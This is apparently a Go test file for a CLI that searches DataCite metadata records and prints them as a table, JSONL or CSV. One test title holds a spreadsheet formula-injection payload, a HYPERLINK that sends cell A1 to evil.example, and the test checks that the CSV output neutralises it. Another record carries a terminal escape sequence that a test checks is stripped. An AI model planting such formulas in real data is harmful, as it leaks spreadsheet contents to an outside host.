package main

import (
	"bytes"
	"flag"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/datacite-go/datacite-go/datacitetest"
	"github.com/datacite-go/datacite-go/internal/program"
)

func service(t *testing.T) *datacitetest.Server {
	t.Helper()
	srv := datacitetest.NewServer(nil)
	t.Cleanup(srv.Close)
	for _, record := range []string{
		`{"doi":"10.5072/length","created":"2020-01-01","publicationYear":2020,"citationCount":3,"titles":[{"title":"Glacier length"}],
			"creators":[{"name":"Lovelace, Ada"},{"name":"Hopper, Grace"}],"types":{"resourceTypeGeneral":"Dataset"},"publisher":"Ice Archive"}`,
		`{"doi":"10.5072/area","created":"2021-01-01","publicationYear":2021,"citationCount":8,"titles":[{"title":"Glacier area, \"raw\""}],
			"types":{"resourceTypeGeneral":"Dataset"}}`,
		`{"doi":"10.5072/evil","created":"2022-01-01","titles":[{"title":"Red \u001b[31m\nalert"}],"types":{"resourceTypeGeneral":"Software"}}`,
	} {
		require.NoError(t, srv.PutRecordJSON([]byte(record)))
	}
	return srv
}

// A stranger's title is no formula of whoever opens the table.
func TestTitlesAreNoFormulas(t *testing.T) {
	srv := service(t)
	require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/formula","titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
	var out, notes bytes.Buffer
	require.NoError(t, run(t.Context(), &program.Program{Name: "search", Args: []string{"-api", srv.URL, "-format", "csv", "doi:*formula"}, Stdout: &out, Stderr: &notes}))
	assert.Contains(t, out.String(), `"'=HYPERLINK(""https://evil.example/?""&A1)",'@Ada,`)
	assert.Contains(t, notes.String(), "2 cells could be taken for a formula by a spreadsheet, and got an apostrophe in front")
}

// search runs the command and returns what it prints.
func search(t *testing.T, args ...string) (out, notes string, err error) {
	t.Helper()
	var o, n bytes.Buffer
	err = run(t.Context(), &program.Program{Name: "search", Args: append([]string{"-api", service(t).URL}, args...), Stdout: &o, Stderr: &n})
	return o.String(), n.String(), err
}

func TestTable(t *testing.T) {
	out, notes, err := search(t, "-sort", "-citation-count", "glacier")
	require.NoError(t, err)
	assert.Equal(t, strings.Join([]string{
		`DOI             YEAR  TYPE     CITED  CREATORS                      TITLE`,
		`10.5072/area    2021  Dataset  8                                    Glacier area, "raw"`,
		`10.5072/length  2020  Dataset  3      Lovelace, Ada; Hopper, Grace  Glacier length`,
		``}, "\n"), out)
	assert.Equal(t, "2 of 2 records\n", notes)
}

// TestFlagsAfterTheQuery has the words of the query on both sides of a flag.
func TestFlagsAfterTheQuery(t *testing.T) {
	out, notes, err := search(t, "glacier", "-n", "1", "-format", "jsonl", "area")
	require.NoError(t, err)
	assert.Equal(t, 1, strings.Count(out, "\n"))
	assert.Contains(t, out, "10.5072/area")
	assert.Equal(t, "1 of 2 records\n", notes)

	out, _, err = search(t, "-format", "jsonl", "glacier", "--", "-area")
	require.NoError(t, err)
	assert.NotContains(t, out, "10.5072/area", "what comes after -- is the query's")
	assert.Contains(t, out, "10.5072/length")
}

func TestHelp(t *testing.T) {
	out, notes, err := search(t, "-h")
	require.ErrorIs(t, err, flag.ErrHelp)
	for _, part := range []string{"search [flags] [query]", "Environment:", "Output:", "Exit codes:\n  0  ", "-quiet", "-published year"} {
		assert.Contains(t, out, part)
	}
	assert.Empty(t, notes)
}

func TestTerminalStaysClean(t *testing.T) {
	out, _, err := search(t, "-type", "software")
	require.NoError(t, err)
	assert.NotContains(t, out, "\x1b")
	assert.Contains(t, out, "Red [31m alert\n")
}

func TestCSV(t *testing.T) {
	out, _, err := search(t, "-format", "csv", "-n", "1", "-sort", "name", "glacier")
	require.NoError(t, err)
	assert.Equal(t, "doi,year,type,title,creators,publisher,url,citations,views,downloads\n"+
		`10.5072/area,2021,Dataset,"Glacier area, ""raw""",,,,8,0,0`+"\n", out)
}

// TestTypes has the general types as the schema writes them, and as the service does.
func TestTypes(t *testing.T) {
	for _, name := range []string{"dataset", "Dataset", "journal-article,dataset", "JournalArticle, Dataset"} {
		out, _, err := search(t, "-type", name, "-format", "jsonl")
		require.NoError(t, err)
		assert.Equal(t, 2, strings.Count(out, "\n"), name)
	}
}

func TestQuietLeavesTheRecords(t *testing.T) {
	out, notes, err := search(t, "-quiet", "-format", "jsonl", "glacier")
	require.NoError(t, err)
	assert.Equal(t, 2, strings.Count(out, "\n"))
	assert.Empty(t, notes)
}

func TestJSONLines(t *testing.T) {
	out, notes, err := search(t, "-format", "jsonl", "-all")
	require.NoError(t, err)
	assert.Equal(t, "3 of 3 records\n", notes)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, 3)
	assert.Contains(t, lines[0], `"doi":"10.5072/length"`)
}

func TestOperators(t *testing.T) {
	for text, want := range map[string]int{"length area": 2, "+length area": 1, "length AND area": 0} {
		out, _, err := search(t, "-format", "jsonl", text)
		require.NoError(t, err)
		assert.Equal(t, want, strings.Count(out, "\n"), text)
	}
	out, _, err := search(t, "-format", "jsonl", "-and", "length area")
	require.NoError(t, err)
	assert.Empty(t, out)
}

func TestFaults(t *testing.T) {
	for _, tt := range []struct {
		args []string
		want string
	}{
		{[]string{"-format", "xml"}, "not one of table, jsonl and csv"},
		{[]string{`ice "open`}, "\n  ice \"open\n      ^"},
		{[]string{"-n", "1001"}, "-n is 1001, not between 1 and 1000; -all prints all records"},
		{[]string{"-n", "0"}, "-n is 0"},
		{[]string{"-all", "glacier", "-n", "5"}, "leave one of them out"},
		{[]string{"-and"}, "-and has no effect without a query"},
		{[]string{"-sort", "newest"}, `-sort "newest" is not one of name, created, updated`},
		{[]string{"-sort", "-relevance"}, `-sort "-relevance" is not one of`},
		{[]string{"-type", "dataset,paper"}, `-type "paper" is not one of audiovisual, award, book`},
		{[]string{"-all", "-sort", "name"}, "leave -sort out"},
		{[]string{"-created", "yesterday"}, "yesterday"},
	} {
		_, _, err := search(t, tt.args...)
		assert.ErrorContains(t, err, tt.want)
	}
}
